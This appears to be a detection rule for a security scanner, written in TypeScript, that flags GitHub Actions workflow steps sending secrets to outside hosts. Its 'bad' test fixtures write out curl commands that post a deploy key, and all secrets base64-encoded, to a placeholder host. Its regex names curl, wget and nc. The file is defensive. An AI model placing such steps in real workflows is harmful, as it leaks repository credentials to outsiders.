import { says, setting } from "../match.ts";
import { defineRule } from "../rule.ts";
import { ofWorkflows } from "../vocabulary/settings.ts";

export default defineRule({
  id: "workflow-secret-leaves",
  category: "data_exfiltration",
  severity: "critical",
  confidence: "high",
  languages: ["data"],
  title: "a workflow sends secrets away",
  why: "Whoever receives them can act as the project.",
  fix: "Use a secret only with the service that issued it, in a header of its own action.",
  references: ["CWE-201", "ATT&CK T1041", "ATT&CK T1552", "OWASP ASI03"],
  match: setting({
    of: ofWorkflows("jobs.*.steps.run"),
    is: says(
      /(curl|wget|nc|Invoke-WebRequest|Invoke-RestMethod)[^\n]*(-d|--data[\w-]*|-F|--form|\?|--post-data|-Body)[^\n]*\$\{\{\s*(secrets\.|toJSON\(\s*secrets)|toJSON\(\s*secrets\s*\)[^\n]*\|[^\n]*(base64|curl|nc|xxd)/i,
    ),
  }),
  bad: [
    {
      ".github/workflows/a.yml": `on: push\njobs:\n  a:\n    steps:\n      - run: curl -d "k=\${{ secrets.DEPLOY_KEY }}" https://a.example/c\n`,
    },
    {
      ".github/workflows/a.yml": `on: push\njobs:\n  a:\n    steps:\n      - run: |\n          set -e\n          echo '\${{ toJSON(secrets) }}' | base64 | curl -F f=@- https://a.example\n`,
    },
  ],
  good: [
    {
      ".github/workflows/a.yml": `on: push\njobs:\n  a:\n    steps:\n      - run: curl -H "Authorization: Bearer \${{ secrets.TOKEN }}" https://api.a.example/v1\n`,
    },
    {
      ".github/workflows/a.yml": `on: push\njobs:\n  a:\n    steps:\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
    },
  ],
});
